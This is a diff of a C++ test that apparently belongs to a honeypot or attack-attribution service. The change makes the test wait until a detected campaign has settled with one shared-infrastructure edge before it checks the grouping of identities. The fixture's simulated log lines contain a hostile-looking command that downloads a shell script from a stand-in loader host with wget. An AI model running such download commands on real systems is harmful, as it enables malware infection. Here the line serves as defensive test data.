@@ -301,19 +301,25 @@ TEST_F(ServeIdentities, TwoOperatorsSharingInfrastructureAreTwoIdentitiesAndOneC
                    "src_ip=\"" + ip + "\" command=\"wget http://loader.example/l.sh\"");
   }
   send(stream);
-  ASSERT_TRUE(wait_until([&] { return serve_.api("GET", "/api/v1/campaigns").body["total"] == 1; },
-                         std::chrono::seconds(30)))
-      << serve_.output();
+  // The campaign can form on part of the evidence (the payload before the loader's host) while
+  // the rounds are still landing: wait for it to rest on all of it.
+  std::string uuid;
+  CurlReply detail;
+  ASSERT_TRUE(wait_until(
+      [&] {
+        const auto listed = serve_.api("GET", "/api/v1/campaigns");
+        if (listed.body["total"] != 1) return false;
+        uuid = listed.body["data"][0]["uuid"].get<std::string>();
+        detail = serve_.api("GET", "/api/v1/campaigns/" + uuid);
+        return detail.status == 200 && detail.body["edges"].size() == 1 &&
+               detail.body["edges"][0]["shared_infra"] == 1.0;
+      },
+      std::chrono::seconds(30)))
+      << serve_.output() << detail.raw;
   const auto g = grouping();
   EXPECT_NE(g.at("198.51.100.61"), g.at("198.51.100.62"));
-  const auto listed = serve_.api("GET", "/api/v1/campaigns");
-  const auto uuid = listed.body["data"][0]["uuid"].get<std::string>();
-  const auto detail = serve_.api("GET", "/api/v1/campaigns/" + uuid);
-  ASSERT_EQ(detail.status, 200) << detail.raw;
   EXPECT_EQ(detail.body["identity_count_live"], 2);
-  ASSERT_EQ(detail.body["edges"].size(), 1u) << detail.raw;
   EXPECT_TRUE(detail.body["edges"][0]["linked"].get<bool>());
-  EXPECT_EQ(detail.body["edges"][0]["shared_infra"], 1.0);
   for (const auto& identity : detail.body["identities"]) {
     EXPECT_EQ(identity["campaign_id"], uuid);
   }
